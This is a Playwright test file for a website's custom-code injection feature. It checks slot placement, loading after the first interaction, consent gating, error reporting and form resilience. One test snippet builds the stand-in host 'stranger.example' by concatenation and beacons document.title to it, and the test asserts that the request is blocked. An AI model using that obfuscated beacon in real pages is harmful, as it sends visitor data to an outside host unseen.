import { randomUUID } from "node:crypto";
import type { Page } from "@playwright/test";
import type { TestServer } from "../running-server.ts";
import { desktop, expect, fillQuote, phone, test } from "./fixtures.ts";

interface Code {
  content: string;
  type?: string;
  position?: string;
  consent?: string;
}

/** Adds enabled codes to every page, and waits until they are there. */
async function addCodes(server: TestServer, codes: readonly Code[]): Promise<string[]> {
  const ids: string[] = [];
  for (const {
    content,
    type = "header_script",
    position = "head_end",
    consent = "none",
  } of codes) {
    const id = randomUUID();
    ids.push(id);
    await server.connection.executeSql(
      "insert into custom_codes (id, name, code_type, position, content, consent_category) values ($1, $2, $3, $4, $5, $6)",
      [id, `code ${ids.length}`, type, position, content, consent],
    );
  }
  await server.connection.executeSql("select pg_notify('codes', '')");
  await expect
    .poll(async () =>
      (await (await fetch(`${server.url}/contact`)).text()).includes("text/snippet"),
    )
    .toBe(codes.length > 0);
  return ids;
}

async function removeCodes(server: TestServer): Promise<void> {
  await server.connection.executeSql("delete from custom_codes");
  await addCodes(server, []);
}

const list = (page: Page) =>
  page.evaluate(() => (window as unknown as { ran?: string[] }).ran ?? []);
const note = (word: string): string => `(window.ran = window.ran || []).push("${word}");`;

test("custom codes run in their slots after the first touch, those with a category after consent", async ({
  server,
  visitorPage,
}) => {
  const page = await visitorPage(desktop);
  const loaded: string[] = [];
  await page.route("https://cdn.example.com/**", (route) => {
    loaded.push(route.request().url());
    return route.fulfill({ contentType: "text/javascript", body: note("file") });
  });
  try {
    await addCodes(server, [
      { content: note("head"), position: "head_start" },
      { content: note("head end") },
      { content: note("body"), position: "body_start" },
      { content: note("body end"), position: "body_end" },
      { content: '<script async src="https://cdn.example.com/a.js"></script>' },
      { content: note("analytics"), type: "analytics", consent: "analytics" },
      { content: note("marketing"), type: "conversion_tracking", consent: "marketing" },
      { content: ".snippet-style{color:red}", type: "css" },
      {
        content: '<p class="snippet-note">Closed on Friday</p>',
        type: "html",
        position: "body_end",
      },
    ]);
    await page.goto("/contact");
    await page.waitForLoadState("load");
    expect(await list(page)).toEqual([]);
    expect(loaded).toEqual([]);
    await expect(page.getByText("Closed on Friday")).toBeVisible();

    await page.mouse.move(200, 200);
    await page.mouse.move(220, 220);
    await expect.poll(() => list(page)).toContain("file");
    expect((await list(page)).filter((word) => word !== "file")).toEqual([
      "head",
      "head end",
      "body",
      "body end",
    ]);
    const bar = page.getByRole("region", { name: "Privacy choices" });
    await bar.getByText("Choose").click();
    await bar.getByLabel("Analytics").check();
    await bar.getByRole("button", { name: "Save my choice" }).click();
    await expect.poll(() => list(page)).toContain("analytics");
    expect(await list(page)).not.toContain("marketing");
    await expect(
      page.getByText("Closed on Friday"),
      "React keeps it when it hydrates",
    ).toBeVisible();
  } finally {
    await removeCodes(server);
  }
});

test("a broken code breaks no form, reaches no host that it does not name, and is reported", async ({
  server,
  visitorPage,
}) => {
  const page = await visitorPage(phone);
  const asked: string[] = [];
  await page.route("https://stranger.example/**", (route) => {
    asked.push(route.request().url());
    return route.fulfill({ body: "" });
  });
  const reports: { snippet?: string }[] = [];
  page.on("request", (request) => {
    if (request.url().endsWith("/beacon")) reports.push(request.postDataJSON() as object);
  });
  try {
    const [broken, late] = await addCodes(server, [
      { content: "thisIsMissing.call();" },
      { content: "setTimeout(() => { alsoMissing(); }, 50);", position: "body_end" },
      { content: "syntax error here(", position: "body_start" },
      {
        content:
          'var host = "stranger" + ".example"; new Image().src = "https:" + "//" + host + "/?" + document.title;',
      },
    ]);
    await page.goto("/contact");
    await fillQuote(page, "Dana Whitfield");
    await expect.poll(() => reports.map(({ snippet }) => snippet)).toContain(broken);
    await expect.poll(() => reports.map(({ snippet }) => snippet)).toContain(late);
    expect(asked).toEqual([]);
    await page.getByRole("button", { name: "Request a Quote" }).click();
    await expect(page.getByText("Form Submitted Successfully!").first()).toBeVisible();
  } finally {
    await removeCodes(server);
  }
});
